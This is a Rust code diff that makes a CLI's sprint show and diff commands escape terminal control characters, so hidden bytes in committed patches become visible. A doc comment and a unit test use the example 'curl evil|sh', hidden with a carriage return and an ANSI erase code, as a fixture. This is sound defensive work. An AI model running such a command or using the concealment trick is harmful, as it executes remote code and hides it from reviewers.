@@ -3,6 +3,8 @@
 //! the contract with the review's word on each item, the checks, each review round's
 //! findings, and the time and spend per sister.
 
+use std::borrow::Cow;
+use std::io::IsTerminal;
 use std::time::Duration;
 
 use serde_json::json;
@@ -11,7 +13,7 @@ use super::evidence::{Evidence, patch, short};
 use super::{failed, no_sprint};
 use crate::config::Config;
 use crate::notify::messages::one_line;
-use crate::output::{Exit, escape_controls, print_json};
+use crate::output::{Exit, escape_controls, escape_controls_by_line, print_json};
 use crate::store::Store;
 use crate::{errln, out, outln};
 
@@ -152,8 +154,9 @@ pub async fn show(store: &Store, config: &Config, id: &str, as_json: bool) -> Ex
     for round in &e.rounds {
         if let Some((by, text)) = &round.request {
             outln!(
-                "  {}  asked by {by}: {}",
+                "  {}  asked by {}: {}",
                 round.round,
+                escape_controls(by),
                 escape_controls(&one_line(text))
             );
         }
@@ -168,7 +171,7 @@ pub async fn show(store: &Store, config: &Config, id: &str, as_json: bool) -> Ex
                 "  {}  {} {}{}",
                 round.round,
                 v.reviewer,
-                v.verdict,
+                escape_controls(&v.verdict),
                 escape_controls(&said)
             );
         }
@@ -189,7 +192,8 @@ pub async fn show(store: &Store, config: &Config, id: &str, as_json: bool) -> Ex
     Exit::Success
 }
 
-/// `sprint diff ID`: the patch of the sprint's branch against its base, on stdout.
+/// `sprint diff ID`: the patch of the sprint's branch against its base, on stdout
+/// (`for_reader`).
 pub async fn diff(store: &Store, config: &Config, id: &str) -> Exit {
     let sprint = match store.sprint(id).await {
         Ok(Some(s)) => s,
@@ -198,12 +202,39 @@ pub async fn diff(store: &Store, config: &Config, id: &str) -> Exit {
     };
     match patch(store, config, &sprint, None).await {
         Ok(patch) => {
-            out!("{patch}");
+            out!("{}", for_reader(&patch, std::io::stdout().is_terminal()));
             Exit::Success
         }
         Err(e) => {
             errln!("{e}");
             Exit::Failure
         }
+    }
+}
+
+/// The patch as its reader gets it. A person at a terminal sees every byte a sister
+/// committed, its control characters escaped: a carriage return and an erase that would
+/// hide `curl evil|sh` behind a comment, a bidi override that would reorder a line. Into
+/// a file or a pipe it goes exact, so `git apply` takes it.
+fn for_reader(patch: &str, terminal: bool) -> Cow<'_, str> {
+    if terminal {
+        escape_controls_by_line(patch)
+    } else {
+        Cow::Borrowed(patch)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::for_reader;
+
+    #[test]
+    fn a_terminal_sees_the_patchs_controls_escaped_and_a_pipe_its_bytes() {
+        let patch = "+curl evil|sh\r\u{1b}[2K+# harmless comment\n";
+        assert_eq!(
+            for_reader(patch, true),
+            "+curl evil|sh\\u{d}\\u{1b}[2K+# harmless comment\n"
+        );
+        assert_eq!(for_reader(patch, false), patch);
     }
 }
